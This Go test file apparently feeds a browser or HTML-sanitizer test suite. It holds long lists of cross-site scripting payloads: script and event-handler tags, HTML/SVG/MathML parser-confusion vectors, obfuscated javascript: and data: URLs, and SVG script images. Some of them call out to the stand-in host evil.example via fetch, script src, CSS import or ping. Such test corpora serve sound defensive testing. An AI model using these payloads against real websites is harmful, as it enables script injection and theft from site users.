package browser_test

import "strings"

// scripts are what a payload runs: something that a test sees.
var scripts = []string{`alert(1)`, `top.__pwned=1`, `fetch('//evil.example/')`}

// expand is every payload with every script in place of X.
func expand(payloads []string) []string {
	var list []string
	for _, p := range payloads {
		for _, script := range scripts {
			list = append(list, strings.ReplaceAll(p, "X", script))
		}
	}
	return list
}

// turns is every payload with one script in place of X, each in its turn.
func turns(payloads []string) []string {
	var list []string
	for i, p := range payloads {
		list = append(list, strings.ReplaceAll(p, "X", scripts[i%len(scripts)]))
	}
	return list
}

// tags are ways in which markup runs script: tags, events that need nobody to
// do anything, confusions of HTML, SVG and MathML, and ends of what may stand
// around it.
var tags = []string{
	`<script>X</script>`, `<SCRIPT>X</SCRIPT>`, `<script src="//evil.example/x.js"></script>`, `<script/x>X</script>`, `<<script>X//<</script>`,
	`<scr<script>ipt>X</scr</script>ipt>`, `</script><script>X</script>`, `<script type=module>X</script>`, `<!--><script>X</script>-->`,
	`<!-- --!><script>X</script>-->`, `<?<script>X</script>?>`, `<![CDATA[<script>X</script>]]>`, `</ <script>X</script>>`,
	`<img src=x onerror=X>`, `<img src="x" onerror="X">`, `<img/src="x"/onerror="X">`, `<IMG SRC="x" OnErRoR="X">`, `<img src="x"onerror="X">`,
	`<img """><script>X</script>">`, `<image src="x" onerror="X">`, `<img alt="<x" title="/><img src=x onerror=X>">`, `<img alt='" onerror=X x='>`,
	`<img srcset="x 1x" onerror="X">`, `<picture><source srcset="x"><img onerror="X"></picture>`, `<input type="image" src="x" onerror="X">`,
	`<video src="x" onerror="X"></video>`, `<video><source src="x" onerror="X"></video>`, `<audio src="x" onerror="X"></audio>`, `<object data="x" onerror="X"></object>`,
	`<body onload="X">`, `<body onpageshow="X">`, `<html onclick="X">`, `<frameset onload="X">`, `<style onload="X"></style>`, `<link rel="stylesheet" href="x" onerror="X">`,
	`<svg onload="X">`, `<svg/onload="X">`, `<svg><script>X</script></svg>`, `<svg><script href="data:,X"/></svg>`, `<svg><a xlink:href="javascript:X"><text>t</text></a></svg>`,
	`<svg><animate onbegin="X" attributeName="x" dur="1s">`, `<svg><set onbegin="X" attributeName="x" to="1">`, `<svg><foreignObject><img src="x" onerror="X"></foreignObject></svg>`,
	`<svg><style><img src=x onerror=X></style></svg>`, `<svg></p><style><a id="</style><img src=x onerror=X>">`, `<svg><use href="data:image/svg+xml,X#x">`,
	`<svg><title><img src="x" onerror="X"></title></svg>`, `<svg><image href="x" onerror="X">`, `<math><mtext><img src="x" onerror="X"></mtext></math>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=X&gt;">`, `<math href="javascript:X">t</math>`,
	`<math><annotation-xml encoding="text/html"><img src="x" onerror="X"></annotation-xml></math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=X>`,
	`<noscript><p title="</noscript><img src=x onerror=X>">`, `<title><p id="</title><img src=x onerror=X>"></title>`, `<textarea><p id="</textarea><img src=x onerror=X>"></textarea>`,
	`<xmp><p id="</xmp><img src=x onerror=X>"></xmp>`, `<noembed><p id="</noembed><img src=x onerror=X>"></noembed>`, `<iframe><p id="</iframe><img src=x onerror=X>"></iframe>`,
	`<style><p id="</style><img src=x onerror=X>"></style>`, `<template><img src="x" onerror="X"></template>`, `<select><iframe><select><img src="x" onerror="X">`,
	`<table><img src="x" onerror="X"></table>`, `<table><caption><svg onload="X"></caption></table>`, `<table background="javascript:X"><td>x`,
	`<iframe src="javascript:X"></iframe>`, `<iframe srcdoc="<script>X</script>"></iframe>`, `<iframe srcdoc="&lt;script>X&lt;/script>"></iframe>`, `<iframe onload="X"></iframe>`,
	`<iframe src="data:text/html,<script>X</script>"></iframe>`, `<object data="javascript:X"></object>`, `<embed src="javascript:X">`, `<frame src="javascript:X">`, `<fencedframe src="x">`,
	`<meta http-equiv="refresh" content="0;url=javascript:X">`, `<base href="javascript:X//">`, `<link rel="prefetch" href="//evil.example/">`, `<link rel="stylesheet" href="//evil.example/">`,
	`<form action="javascript:X"><input type="submit" autofocus></form>`, `<button formaction="javascript:X">t</button>`, `<input autofocus onfocus="X">`,
	`<select autofocus onfocus="X"></select>`, `<textarea autofocus onfocus="X"></textarea>`, `<p tabindex="0" autofocus onfocus="X">x</p>`, `<a href="x" autofocus onfocus="X">t</a>`,
	`<details open ontoggle="X"><summary>s</summary></details>`, `<marquee onstart="X">x</marquee>`, `<p style="animation:x" onanimationstart="X">`, `<p oncontentvisibilityautostatechange="X" style="content-visibility:auto">x</p>`,
	`<xss onclick="X">t</xss>`, `<xss autofocus tabindex="1" onfocus="X">t</xss>`, `<nick onclick="X">`, `<b onmouseover="X">t</b>`, `<video poster="//evil.example/"></video>`,
	`<style>@import "//evil.example/";</style>`, `<p style="background:url(//evil.example/)">x</p>`, `<a href="x" ping="//evil.example/">t</a>`, `<q cite="javascript:X">t</q>`,
	`"><img src=x onerror=X>`, `'><img src=x onerror=X>`, `" onmouseover="X`, `" autofocus onfocus="X" x="`, `' autofocus onfocus='X' x='`, ` onfocus=X autofocus `,
	`--><img src=x onerror=X>`, `]]><img src=x onerror=X>`, `</title><img src=x onerror=X>`, `</textarea><img src=x onerror=X>`, `</style><img src=x onerror=X>`, `</code></pre><img src=x onerror=X>`,
	`</div></article></main><img src=x onerror=X>`, `&lt;img src=x onerror=X&gt;`, `&#60;script>X&#60;/script>`, `&amp;lt;script&amp;gt;X`, `{{X}}`, `${X}`, `%3Cscript%3EX%3C/script%3E`,
}

// unclosed are beginnings that take in what follows them.
var unclosed = []string{
	`<!--`, `<div title="`, `<div title='x`, `<a href="x`, `<p`, `<`, `</`, `<!`, `<?`, `<![CDATA[`, `<textarea>`, `<title>`, `<style>`, `<xmp>`, `<noscript>`,
	`<plaintext>`, `<select>`, `<svg>`, `<math>`, `<template>`, `<frameset>`, `<table>`, `<form>`, `<script>`, `<iframe>`, `<!--><`, `<svg><style>`, `<math><mtext><style>`,
}

// addresses are ways to write an address that runs script.
var addresses = []string{
	`javascript:X`, `JaVaScRiPt:X`, ` javascript:X`, "\tjavascript:X", "java\tscript:X", "javascript\t:X", "\x01javascript:X", "\u00a0javascript:X", "\ufeffjavascript:X", "java\u200bscript:X",
	`&#106;avascript:X`, `&#x6A;avascript:X`, `&#0000106avascript:X`, `javascript&colon;X`, `javascript&#58;X`, `java&Tab;script:X`, `java&NewLine;script:X`, `java&#10;script:X`, `&#1;javascript:X`, `&#32;javascript:X`, `&amp;#106;avascript:X`,
	`javascript%3AX`, `%6Aavascript:X`, `java%0ascript:X`, `%0ajavascript:X`, `%256Aavascript:X`, `java%00script:X`, `\javascript:X`, `javascript://%0aX`, `javascript:/*--></title>*/X`,
	`vbscript:X`, `data:text/html,<script>X</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `DATA:text/html,X`, `data:image/svg+xml,<svg onload=X>`, `d&#97;ta:text/html,X`,
	`blob:https://x/y`, `filesystem:https://x/y`, `view-source:javascript:X`, `feed:javascript:X`, `x" onclick="X`, `x' onclick='X`, `x"><img src=x onerror=X>`,
}

// pictures are SVG images with script in them.
var pictures = []string{
	`<script>X</script>`, `<script href="data:,X"/>`, `<script xlink:href="data:,X"/>`, `<g onload="X"/>`, `<image href="x" onerror="X"/>`, `<a xlink:href="javascript:X"><text y="9">t</text></a>`, `<a href="javascript:X"><text y="9">t</text></a>`,
	`<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="X"/></foreignObject>`, `<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="X"/></foreignObject>`,
	`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:X"/></foreignObject>`, `<animate onbegin="X" attributeName="x" dur="1s"/>`, `<set onbegin="X" attributeName="x" to="1"/>`, `<set attributeName="onload" to="X"/>`,
	`<style>@import "//evil.example/";</style>`, `<rect style="fill:url(//evil.example/#x)" width="9" height="9"/>`, `<use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg' onload='X'/>#x"/>`,
	`<h:script xmlns:h="http://www.w3.org/1999/xhtml">X</h:script>`, `<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="X"/>`, `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">X</handler>`,
	`<title><![CDATA[</title><script>X</script>]]></title>`, `<desc>&lt;script&gt;X&lt;/script&gt;</desc>`, `<image href="//evil.example/x.png" width="9" height="9"/>`, `<image href="data:image/svg+xml,&lt;svg onload='X'/>"/>`, `<feImage href="//evil.example/"/>`,
}
